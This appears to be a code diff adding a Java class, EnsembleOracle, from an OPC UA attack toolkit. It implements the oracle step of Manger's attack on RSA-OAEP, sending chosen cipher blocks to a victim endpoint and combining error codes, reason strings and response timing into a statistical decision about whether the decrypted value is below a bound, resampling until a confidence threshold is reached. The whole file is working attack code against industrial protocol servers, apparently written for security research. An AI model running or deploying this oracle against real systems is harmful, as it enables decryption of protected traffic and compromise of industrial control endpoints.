@@ -0,0 +1,238 @@
+package attacks.manger.oracle;
+
+import opcua.message.ErrorMessage;
+import opcua.message.Message;
+import opcua.message.parts.MessageType;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CompletableFuture;
+
+/**
+ * Oracle that combines all side channels of a single response: the error code, the reason string and the response
+ * time. Every channel yields a log-likelihood ratio for "m<B", and the ratios are combined with weights learned by the
+ * EnsembleOracleLearner. The weighted sum is the log-odds of "m<B" given one response. If the log-odds of the first
+ * response are inconclusive, which is usually the case if only the timing leaks, the cipher block is sent again and the
+ * weighted evidence of all responses is added to the bias until the sum exceeds the decision threshold.
+ */
+public class EnsembleOracle extends Oracle {
+    public static final double DEFAULT_DECISION_THRESHOLD = Math.log(99);   // 99% confidence
+
+    private final Model model;
+    private final MeasurementQueue measurements = new MeasurementQueue(this, "ensemble-oracle-measurement");
+    private double decisionThreshold = DEFAULT_DECISION_THRESHOLD;
+    private int maxSamples;
+
+    /**
+     * Learned parameters of the ensemble
+     */
+    public static class Model {
+        private final Map<Long, Double> errorCodeEvidence;
+        private final Map<String, Double> reasonEvidence;
+        private final double meanLessB;
+        private final double meanGeqB;
+        private final double standardDeviation;
+        private final double bias;
+        private final double errorCodeWeight;
+        private final double reasonWeight;
+        private final double timingWeight;
+
+        /**
+         * Constructor
+         * @param errorCodeEvidence Log-likelihood ratio for "m<B" of every known error code
+         * @param reasonEvidence Log-likelihood ratio for "m<B" of every known reason string
+         * @param meanLessB Mean response time in nanoseconds for "m<B"
+         * @param meanGeqB Mean response time in nanoseconds for "m>=B"
+         * @param standardDeviation Pooled standard deviation of the response times
+         * @param bias Learned bias of the combined log-odds
+         * @param errorCodeWeight Learned weight of the error code channel
+         * @param reasonWeight Learned weight of the reason string channel
+         * @param timingWeight Learned weight of the timing channel
+         */
+        public Model(Map<Long, Double> errorCodeEvidence, Map<String, Double> reasonEvidence, double meanLessB,
+                     double meanGeqB, double standardDeviation, double bias, double errorCodeWeight,
+                     double reasonWeight, double timingWeight) {
+            this.errorCodeEvidence = errorCodeEvidence;
+            this.reasonEvidence = reasonEvidence;
+            this.meanLessB = meanLessB;
+            this.meanGeqB = meanGeqB;
+            this.standardDeviation = standardDeviation;
+            this.bias = bias;
+            this.errorCodeWeight = errorCodeWeight;
+            this.reasonWeight = reasonWeight;
+            this.timingWeight = timingWeight;
+        }
+
+        /**
+         * Returns the unweighted log-likelihood ratios of the error code, the reason string and the response time
+         * @param response The error response
+         * @param responseTime The response time in nanoseconds
+         * @return Array of the three ratios, unknown codes and reasons yield 0
+         */
+        public double[] evidence(ErrorMessage response, long responseTime) {
+            double errorCode = errorCodeEvidence.getOrDefault(response.getError(), 0.0);
+            double reason = response.getReason() != null ? reasonEvidence.getOrDefault(response.getReason(), 0.0) : 0;
+            return new double[] {errorCode, reason, timingEvidence(responseTime)};
+        }
+
+        /**
+         * Log-likelihood ratio of two normal distributions with equal variance. Outliers are clamped to three standard
+         * deviations beyond the means, so that a single delayed response cannot dominate.
+         */
+        private double timingEvidence(long responseTime) {
+            if(standardDeviation <= 0) {
+                return 0;
+            }
+            double lower = Math.min(meanLessB, meanGeqB) - 3 * standardDeviation;
+            double upper = Math.max(meanLessB, meanGeqB) + 3 * standardDeviation;
+            double t = Math.max(lower, Math.min(upper, responseTime));
+            return ((t - meanGeqB) * (t - meanGeqB) - (t - meanLessB) * (t - meanLessB)) / (2 * standardDeviation * standardDeviation);
+        }
+
+        /**
+         * Returns the log-odds of "m<B" for a single error response
+         */
+        public double score(ErrorMessage response, long responseTime) {
+            return bias + weightedEvidence(response, responseTime);
+        }
+
+        /**
+         * Returns the weighted evidence of a single error response without the bias, i.e. the change of the log-odds of
+         * "m<B" caused by one more response
+         */
+        public double weightedEvidence(ErrorMessage response, long responseTime) {
+            double[] evidence = evidence(response, responseTime);
+            return errorCodeWeight * evidence[0] + reasonWeight * evidence[1] + timingWeight * evidence[2];
+        }
+
+        public double getBias() {
+            return bias;
+        }
+
+        public double getErrorCodeWeight() {
+            return errorCodeWeight;
+        }
+
+        public double getReasonWeight() {
+            return reasonWeight;
+        }
+
+        public double getTimingWeight() {
+            return timingWeight;
+        }
+
+        public double getMeanLessB() {
+            return meanLessB;
+        }
+
+        public double getMeanGeqB() {
+            return meanGeqB;
+        }
+
+        public double getStandardDeviation() {
+            return standardDeviation;
+        }
+    }
+
+    /**
+     * Constructor
+     * @param model The learned model
+     * @param maxSamples Maximum number of responses per decision
+     */
+    public EnsembleOracle(Model model, int maxSamples) {
+        if(maxSamples < 1) {
+            throw new IllegalArgumentException("At least one sample is required");
+        }
+        this.model = model;
+        this.maxSamples = maxSamples;
+    }
+
+    @Override
+    public boolean usesResponseTimes() {
+        return true;
+    }
+
+    /**
+     * The response times are sampled on the measurement thread while the endpoint is claimed exclusively, see
+     * VictimProxy.beginExclusive
+     */
+    @Override
+    public boolean checkValidity(byte[] cipherBlock) throws OracleException {
+        incrementQueryCount();
+        return join(measurements.submit(() -> decide(getVictimProxy(), cipherBlock)));
+    }
+
+    /**
+     * Asynchronous queries are queued and decided one after another on the measurement thread
+     */
+    @Override
+    public CompletableFuture<Boolean> checkValidityAsync(byte[] cipherBlock) {
+        incrementQueryCount();
+        return measurements.submit(() -> decide(getVictimProxy(), cipherBlock));
+    }
+
+    /**
+     * The cipher blocks are decided one after another, in a single exclusive phase
+     */
+    @Override
+    public List<Boolean> checkValidity(List<byte[]> cipherBlocks) throws OracleException {
+        getMetrics().recordQueries(cipherBlocks.size());
+        return join(measurements.submit(() -> {
+            VictimProxy victimProxy = getVictimProxy();
+            List<Boolean> decisions = new ArrayList<>(cipherBlocks.size());
+            for(byte[] cipherBlock : cipherBlocks) {
+                decisions.add(decide(victimProxy, cipherBlock));
+            }
+            return decisions;
+        }));
+    }
+
+    private boolean decide(VictimProxy victimProxy, byte[] cipherBlock) throws OracleException {
+        // The learned prior counts once per decision, only the evidence accumulates per response
+        double logOdds = model.getBias();
+        for(int i=0; i<maxSamples; i++) {
+            if(i > 0) {
+                getMetrics().recordRetry();
+            }
+            VictimProxy.QueryResult queryResult = victimProxy.sendCipherBlock(cipherBlock);
+            Message response = queryResult.getResponse();
+            if(response == null || response.getMessageType() != MessageType.ERR) {
+                //We "guessed" a valid ciphertext
+                return true;
+            }
+            logOdds += model.weightedEvidence((ErrorMessage) response, queryResult.getResponseTime());
+            if(Math.abs(logOdds) >= decisionThreshold) {
+                break;
+            }
+        }
+        return logOdds > 0;
+    }
+
+    public Model getModel() {
+        return model;
+    }
+
+    public double getDecisionThreshold() {
+        return decisionThreshold;
+    }
+
+    /**
+     * Sets the absolute log-odds at which sampling stops
+     * @param decisionThreshold Threshold, e.g. ln(p/(1-p)) for a confidence of p
+     */
+    public void setDecisionThreshold(double decisionThreshold) {
+        this.decisionThreshold = decisionThreshold;
+    }
+
+    public int getMaxSamples() {
+        return maxSamples;
+    }
+
+    public void setMaxSamples(int maxSamples) {
+        if(maxSamples < 1) {
+            throw new IllegalArgumentException("At least one sample is required");
+        }
+        this.maxSamples = maxSamples;
+    }
+}